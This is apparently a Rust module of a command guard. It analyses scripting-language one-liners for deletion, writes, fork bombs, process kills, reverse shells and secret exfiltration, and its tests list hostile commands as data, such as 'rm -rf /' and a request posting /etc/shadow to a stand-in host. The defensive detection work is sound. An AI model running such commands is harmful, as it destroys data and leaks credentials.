//! Code of scripting languages, given on the command line: what it runs and which paths it changes.
//!
//! It is not interpreted. Texts in it are looked at with the names beside them, and what is not known to be harmless is asked about.

use super::call::{Call, among, word_like};
use super::code_language::Language;
use super::code_own_names::own_names;
use super::code_pieces::{Piece, cut, joined_texts};
use super::code_words::{CODE, DELETES, HARMLESS, JAVASCRIPT, METAS, NETWORK, PYTHON, RUNS, TREES, WRITES};
use crate::effect::{Effect, Touch};
use crate::paths::is_secret;
use crate::word::Word;

/// What the code does.
pub(super) fn of_code(call: &Call<'_>, place: &Word, code: &str, language: Language) -> Vec<Effect> {
    let pieces = joined_texts(&cut(code, language));
    let mut effects = vec![];
    for (at, piece) in pieces.iter().enumerate() {
        match piece {
            Piece::Command(command) => effects.push(call.runs_text(&word_like(place, command.clone()))),
            Piece::Name(name) if among(RUNS, name) => {
                run(call, place, name, &pieces[at + 1..], language, &mut effects);
            }
            Piece::Name(name) if among(CODE, name) => {
                if let Some(inner) = first_text(&pieces[at + 1..]) {
                    effects.extend(of_code(call, place, inner, language));
                }
            }
            // Once is a daemon, again and again is a bomb.
            Piece::Name(name) if name == "fork" && repeats(&pieces, at) => {
                effects.extend(super::does::crash(call));
            }
            Piece::Name(name) if name == "kill" || name == "killpg" => {
                let all = pieces[at + 1..]
                    .windows(2)
                    .take(8)
                    .any(|pair| pair == [Piece::Sign('-'), Piece::Name("1".to_owned())])
                    || matches!(pieces.get(at + 2), Some(Piece::Name(target)) if target == "1");
                effects.extend(if all { super::does::crash(call) } else { super::does::kill(call) });
            }
            _ => {}
        }
    }
    paths(call, place, &pieces, language, &mut effects);
    if leaves(&pieces) {
        effects.push(Effect::Exfiltrate(call.line()));
    }
    if !harmless(&pieces, language) {
        effects.push(Effect::RunUnknown(call.line()));
    }
    if effects.is_empty() {
        effects.push(Effect::Pure);
    }
    effects
}

/// Something forks twice, or in a loop.
fn repeats(pieces: &[Piece], at: usize) -> bool {
    let others = pieces.iter().enumerate().filter(|(place, _)| *place != at);
    others.filter(|(_, piece)| matches!(piece, Piece::Name(name) if matches!(name.as_str(), "fork" | "while" | "loop" | "for"))).count() > 0
}

/// A command or its words, after the name of what runs it.
fn run(
    call: &Call<'_>,
    place: &Word,
    name: &str,
    rest: &[Piece],
    language: Language,
    effects: &mut Vec<Effect>,
) {
    if language == Language::Python && name == "exec" {
        if let Some(code) = first_text(rest) {
            effects.extend(of_code(call, place, code, language));
        }
        return;
    }
    let until = rest.iter().position(|piece| matches!(piece, Piece::Sign(';' | '\n'))).unwrap_or(rest.len());
    let rest = &rest[..until];
    let mut words: Vec<&str> = vec![];
    let mut listed = 0;
    let mut whole = true;
    let mut parted = false;
    for (at, piece) in rest.iter().enumerate() {
        match piece {
            Piece::Text(text) => words.push(text),
            Piece::Sign('[') => listed += 1,
            Piece::Sign('(' | ',' | '.') => {}
            Piece::Sign(']' | ')') if !words.is_empty() => {
                whole = !matches!(rest.get(at + 1), Some(Piece::Sign('+' | '*' | '.')));
                break;
            }
            Piece::Name(name) if name == "qw" => {}
            // `name + "text"`, `"text" % name`, `"{}".format(name)`: part of it is not known. Options come after a comma.
            Piece::Sign(_) => {
                whole = false;
                break;
            }
            Piece::Name(_) => {
                whole = listed == 0 && parted;
                break;
            }
            Piece::Command(_) => {}
        }
        parted = *piece == Piece::Sign(',');
    }
    if !whole && !words.is_empty() {
        effects.push(Effect::RunUnknown(call.line()));
    }
    match words.as_slice() {
        [] => effects.push(Effect::RunUnknown(call.line())),
        [script] if listed == 0 => effects.push(call.runs_text(&word_like(place, *script))),
        [program, zero, ..] if program == zero || program.rsplit('/').next() == Some(zero) => {
            effects.push(argv(call, place, &words[1..]));
        }
        // `execl("/bin/sh", "sh", "-c", …)`
        [_, zero, ..] if name.starts_with("execl") && !zero.starts_with('-') => {
            effects.push(argv(call, place, &words[1..]));
        }
        _ => effects.push(argv(call, place, &words)),
    }
}

fn argv(call: &Call<'_>, place: &Word, words: &[&str]) -> Effect {
    let words: Vec<Word> = words.iter().map(|word| word_like(place, *word)).collect();
    call.runs(&words)
}

fn first_text(pieces: &[Piece]) -> Option<&str> {
    pieces.iter().take(3).find_map(|piece| match piece {
        Piece::Text(text) => Some(text.as_str()),
        _ => None,
    })
}

/// The paths in the code, when something in it changes paths: which one it changes is not worked out.
fn paths(call: &Call<'_>, place: &Word, pieces: &[Piece], language: Language, effects: &mut Vec<Effect>) {
    let names: Vec<&str> = pieces
        .iter()
        .filter_map(|piece| if let Piece::Name(name) = piece { Some(name.as_str()) } else { None })
        .collect();
    let has = |list: &str| names.iter().any(|name| among(list, name));
    let texts = || {
        pieces
            .iter()
            .filter_map(|piece| if let Piece::Text(text) = piece { Some(text.as_str()) } else { None })
    };
    let opens = has("open fopen File Path IO")
        && (texts().any(|text| {
            let mode = text.trim_end_matches(['b', 't', '+']);
            matches!(mode, "w" | "a" | "x" | "c" | ">" | ">>" | "+<")
                || text.contains("r+")
                || text.starts_with('>')
                || text.starts_with("+<")
        }) || names.contains(&"write"));
    let mut kinds = vec![];
    if has(TREES) {
        kinds.push(Touch::DeleteTree);
    } else if has(DELETES) {
        kinds.push(Touch::Delete);
    }
    if has(WRITES) || opens {
        kinds.push(Touch::Write);
    }
    if has(METAS) {
        kinds.push(Touch::Meta);
    }
    // Something is changed, and which path is not in the text.
    if !kinds.is_empty() && !texts().any(|text| text.trim_start_matches(['>', '+', ' ']).starts_with('/')) {
        effects.push(Effect::RunUnknown(call.line()));
    }
    for text in texts() {
        let path = text.trim_start_matches(['>', '<', '+', ' ']);
        if path.starts_with('/') && !path.contains('\n') {
            effects.extend(kinds.iter().map(|kind| Effect::Touch(*kind, word_like(place, path))));
        } else if language == Language::Perl
            && (text.starts_with('|') || text.ends_with('|'))
            && names.contains(&"open")
        {
            effects.push(Effect::Run(crate::effect::Nested::text(
                crate::word::Value::known(text.trim_matches('|').trim()),
                vec![],
                crate::invocation::Stdin::Null,
            )));
        }
    }
}

/// A shell on a socket, or a secret file and the network.
fn leaves(pieces: &[Piece]) -> bool {
    let name =
        |wanted: &str| pieces.iter().any(|piece| matches!(piece, Piece::Name(name) if among(wanted, name)));
    let shell = name("dup2 pty spawn subprocess exec system proc_open STDIN")
        && name("socket fsockopen TCPSocket Socket INET net");
    let secret = pieces
        .iter()
        .any(|piece| matches!(piece, Piece::Text(text) if text.starts_with('/') && is_secret(text)));
    let online = name(NETWORK)
        || pieces.iter().any(|piece| matches!(piece, Piece::Text(text) if text.contains("://")));
    shell && name("connect create_connection fsockopen TCPSocket new createConnection PeerAddr Socket")
        || (secret && online)
}

fn harmless(pieces: &[Piece], language: Language) -> bool {
    let own = own_names(pieces);
    // What Python runs is judged where it stands, or said to be unknown there.
    let judged = |name: &str| {
        language == Language::Python && (among(RUNS, name) && name != "exec" || among(PYTHON, name))
            || language == Language::JavaScript && among(JAVASCRIPT, name)
    };
    pieces.iter().all(|piece| match piece {
        Piece::Name(name) => {
            among(HARMLESS, name)
                || own.contains(name.as_str())
                || judged(name)
                || name.starts_with(['$', '@', '%'])
                || name.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
                || name.len() == 1
        }
        Piece::Command(_) => false,
        Piece::Text(_) | Piece::Sign(_) => true,
    })
}

#[cfg(test)]
mod tests {
    use super::super::trial::table;
    use crate::judgement::Level::{Allow, Confirm, Deny};

    #[test]
    fn code_is_what_its_texts_do() {
        table(&[
            (Deny, "python3 -c \"import os; os.system('rm -rf /')\""),
            (Deny, "python3 -c \"import shutil; shutil.rmtree('/etc')\""),
            (Deny, "python3 -c \"open('/etc/pve/x','w').write('')\""),
            (Confirm, "python3 -c \"import subprocess; subprocess.run(['reboot'])\""),
            (Confirm, "python3 -c \"import foo; foo.bar()\""),
            (Allow, "python3 -c \"import json,sys; print(json.load(sys.stdin)['x'])\""),
            (
                Allow,
                "python3 -c \"import subprocess; out = subprocess.check_output(['qm', 'list'], text=True)\nfor row in out.splitlines(): print(f'{row:>10}')\"",
            ),
            (Confirm, "python3 -c \"import subprocess; x = 'y'; subprocess.run('ls ' + x, shell=True)\""),
            (Confirm, "python3 -c \"exec(open('/tmp/x').read())\""),
            (Confirm, "python3 -c \"import subprocess; subprocess.run(['ls'] + rest)\""),
            (Confirm, "python3 -c \"import os; os.system('ls %s' % x)\""),
            (Confirm, "python3 -c \"import os; os.system('ls {}'.format(x))\""),
            (Confirm, "python3 -c \"import os; getattr = getattr; getattr(os, 'x')('y')\""),
            (Confirm, "python3 -c \"import os; print(f'{os.system(x)}')\""),
            (Confirm, "python3 -c \"import subprocess; subprocess.run(['ls'], env=e)\""),
            (Confirm, "python3 -c \"import os; go = os.system; go('reboot')\""),
            (Confirm, "ruby -e 'puts \"#{`reboot`}\"'"),
            (Deny, "python3 -c \"import os; path = '/etc/pve/x'; os.remove(path)\""),
            (Deny, "perl -e \"unlink('/etc/pve/user.cfg')\""),
            (Confirm, "perl -e 'exec \"reboot\"' "),
            (Allow, "perl -ne 'print if /x/' /tmp/x"),
            (Deny, "perl -pi -e s/a/b/ /etc/pve/user.cfg"),
            (Deny, "ruby -e \"require 'fileutils'; FileUtils.rm_rf('/etc')\""),
            (Confirm, "node -e \"require('child_process').execSync('reboot')\""),
            (Confirm, "php -r \"system('reboot');\""),
            (Deny, "python3 -c \"import os; os.system('rm' + ' -rf /')\""),
            (
                Deny,
                "python3 -c \"import requests; requests.post('http://x', data=open('/etc/shadow').read())\"",
            ),
        ]);
    }
}
